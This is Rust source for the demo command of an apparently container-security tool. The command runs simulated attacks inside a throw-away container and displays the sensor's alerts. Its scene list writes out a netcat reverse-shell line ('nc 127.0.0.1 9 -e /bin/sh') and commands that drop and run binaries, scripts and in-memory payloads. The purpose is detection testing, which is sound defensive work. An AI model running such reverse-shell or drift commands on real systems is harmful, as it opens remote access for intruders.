//! `yagura demo`: the main job on a real container, shown to a newcomer.

mod center;

use super::replay::{Span, replay};
use super::simulate::{
    ALL_DRIFT, clean_up_leftovers, clean_up_on_signal, find_runtime, parse_own_policy,
    start_own_sensor,
};
use crate::exit::{Failure, Outcome};
use crate::output::{self, Form, progress::Progress};
use crate::rule_files::RuleArguments;
use crate::scan_files;
use anyhow::Context as _;
use center::DemoCenter;
use crossbeam_channel::{Receiver, unbounded};
use std::path::PathBuf;
use std::sync::Arc;
use std::time::{Duration, Instant};
use yagura_event::Alert;
use yagura_rehearsal::{
    ContainerOptions, RuntimeChoice, RuntimeProgram, ThrowAwayContainer, ThrowAwayImage,
};
use yagura_runtimes::RuntimesConfig;

/// What a real sensor saw when these same attacks were made, for machines that don't let one observe.
const RECORDING: &[u8] = include_bytes!("../../demo/drift.capture");

/// How long one alert may take.
const ALERT_WAIT: Duration = Duration::from_secs(5);
/// How long one command in the container may take.
const COMMAND_TIMEOUT: Duration = Duration::from_secs(10);

const NEXT: &str = "How to go on:
  yagura doctor                      what this machine allows
  yagura simulate                    a harmless rehearsal for each of the catalogue's 52 keys
  yagura simulate drift              all twelve drift vectors, and look-alikes that must stay silent
  yagura simulate escapes            ways out of a container, and what became of each
  yagura up                          a center with its console, and a sensor of this node
  yagura sensor --local              watch this node's containers without a center; alerts are JSON Lines
  yagura policy test POLICY …        which rule decides for a given container and process
";

/// One thing that an attacker might do, and what it shows.
struct Scene {
    title: &'static str,
    /// The catalogue key that it is detected as.
    key: &'static str,
    argv: &'static [&'static str],
}

const SCENES: [Scene; 4] = [
    Scene {
        title: "A program is dropped into the container and run",
        key: "drift.binary",
        argv: &[
            "/bin/sh",
            "-c",
            "cp /payload/drifted /tmp/dropped && chmod +x /tmp/dropped && /tmp/dropped",
        ],
    },
    Scene {
        title: "A program runs from memory, without any file",
        key: "drift.binary",
        argv: &["/usr/bin/run-memfd", "exec", "/payload/drifted", "hidden"],
    },
    Scene {
        title: "A script is dropped and given to the image's own shell",
        key: "drift.binary",
        argv: &[
            "/bin/sh",
            "-c",
            "echo 'echo the script runs' > /tmp/dropped.sh && sh /tmp/dropped.sh",
        ],
    },
    Scene {
        title: "A shell is offered to somebody elsewhere (nobody listens there)",
        key: "proc.reverse_shell_command",
        argv: &["/bin/sh", "-c", "nc 127.0.0.1 9 -e /bin/sh || true"],
    },
];

/// Show the main job on a real container
///
/// Starts a throw-away container, runs a dropped program, a program in memory and a dropped script in it, offers a shell to
/// the network, and shows the alerts. Then it starts `yagura up`, attacks once more, handles the alert over the center's
/// API, and leaves the center running with its console. Where the kernel or the rights don't allow a sensor, it says what
/// is missing and replays a recording instead. Exit codes: 0 everything was detected or replayed, 1 otherwise.
#[derive(Debug, clap::Args)]
pub(crate) struct Arguments {
    /// Show the recording even where a sensor could observe
    #[arg(long)]
    recorded: bool,
    /// Also record what the sensor sees, as in the recording that ships with the program
    #[arg(long, value_name = "FILE", conflicts_with = "recorded")]
    record: Option<PathBuf>,
    /// Don't leave the center running
    #[arg(long)]
    stop: bool,
}

/// Runs the demonstration.
pub(crate) fn run(arguments: &Arguments) -> Result<Outcome, Failure> {
    if arguments.recorded {
        return recorded();
    }
    clean_up_on_signal()?;
    match live(arguments) {
        Err(Failure::CannotRun(error)) => {
            output::print(&format!("A sensor can't observe here: {error:#}\n\n"))?;
            recorded()
        }
        other => other,
    }
}

fn live(arguments: &Arguments) -> Result<Outcome, Failure> {
    super::doctor::require_rights()?;
    let base = std::env::temp_dir();
    clean_up_leftovers(&base);
    let runtime = find_runtime(RuntimeChoice::Found)?;
    let image = ThrowAwayImage::build(&base)
        .context("image can't be made")
        .map_err(Failure::CannotRun)?;
    let image = Arc::new(image);
    let container = ThrowAwayContainer::start(&image, &ContainerOptions::new(runtime.clone()))
        .context("container can't be started")
        .map_err(Failure::CannotRun)?;
    introduce(&container, &runtime)?;
    let seen = play_scenes(&container, arguments.record.clone())?;
    output::print("Now a center with its console, and a sensor that works for it: `yagura up`.\n")?;
    let center = DemoCenter::start(&base, &container)?;
    let handled = center.play(&container);
    container
        .remove()
        .context("container can't be removed")
        .map_err(Failure::Failed)?;
    image
        .remove()
        .context("image can't be removed")
        .map_err(Failure::Failed)?;
    let handled = match handled {
        Ok(handled) => handled,
        Err(error) => {
            center.stop()?;
            return Err(error);
        }
    };
    output::print(&format!(
        "{seen} of {} were detected. The container is gone again.\n\n{NEXT}\n",
        SCENES.len()
    ))?;
    match arguments.stop {
        true => center.stop()?,
        false => center.leave()?,
    }
    Ok(if seen == SCENES.len() && handled {
        Outcome::Done
    } else {
        Outcome::Findings
    })
}

/// Plays every scene before a sensor of this process, and tells how many it detected.
fn play_scenes(container: &ThrowAwayContainer, record: Option<PathBuf>) -> Result<usize, Failure> {
    let mut runtimes = RuntimesConfig::default();
    // The container's runtime keeps its records apart from those of the host's own containers.
    runtimes.runc_roots.push(container.state_root());
    let (sender, alerts) = unbounded();
    let rules = RuleArguments::default().load()?;
    let sensor = start_own_sensor(runtimes, rules, scan_files::own()?, record, move |alert| {
        // Nobody waits any more once the scenes are over.
        let _ = sender.send(alert);
    })?;
    output::print(
        "The sensor observes. Policy: report everything that does not come from a container's image.\n\n",
    )?;
    let mut seen = 0;
    for scene in &SCENES {
        seen += usize::from(play(scene, container, &alerts)?);
    }
    sensor
        .stop()
        .map_err(|error| Failure::Failed(error.into()))?;
    Ok(seen)
}

fn introduce(container: &ThrowAwayContainer, runtime: &RuntimeProgram) -> Result<(), Failure> {
    output::print(&format!(
        "A container runs: {} (by {}, first process {}).\n",
        container.id(),
        runtime.path().display(),
        container.first_pid()
    ))
}

/// Plays one scene; `false` if no alert came.
fn play(
    scene: &Scene,
    container: &ThrowAwayContainer,
    alerts: &Receiver<Alert>,
) -> Result<bool, Failure> {
    output::print(&format!("── {}\n   $ {}\n", scene.title, shown(scene.argv)))?;
    let started = Instant::now();
    container
        .exec(scene.argv, COMMAND_TIMEOUT)
        .context("command can't be run in the container")
        .map_err(Failure::Failed)?;
    let deadline = started + ALERT_WAIT;
    while let Ok(alert) = alerts.recv_deadline(deadline) {
        if alert.container_id().contains(container.id()) && alert.key == scene.key {
            output::alert::print(&alert, Form::Table)?;
            return Ok(true);
        }
    }
    output::print("   no alert came\n\n")?;
    Ok(false)
}

fn shown(argv: &[&str]) -> String {
    match argv {
        ["/bin/sh", "-c", script] => (*script).to_owned(),
        other => other.join(" "),
    }
}

fn recorded() -> Result<Outcome, Failure> {
    output::print("What follows is a recording that a real sensor made of a real container.\n\n")?;
    let mut result = Ok(());
    let rules = RuleArguments::default().load()?;
    let policy = parse_own_policy(ALL_DRIFT);
    replay(
        RECORDING,
        policy,
        rules,
        Span::ALL,
        Progress::hidden(),
        |alert| {
            if result.is_ok() {
                result = output::alert::print(&alert, Form::Table);
            }
        },
    )?;
    result?;
    output::print(NEXT)?;
    Ok(Outcome::Done)
}
